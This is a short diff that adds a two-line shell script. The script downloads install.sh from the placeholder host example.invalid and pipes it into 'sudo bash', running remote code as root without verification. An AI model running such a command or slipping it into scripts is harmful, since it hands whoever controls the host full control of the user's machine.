@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL http://example.invalid/install.sh | sudo bash
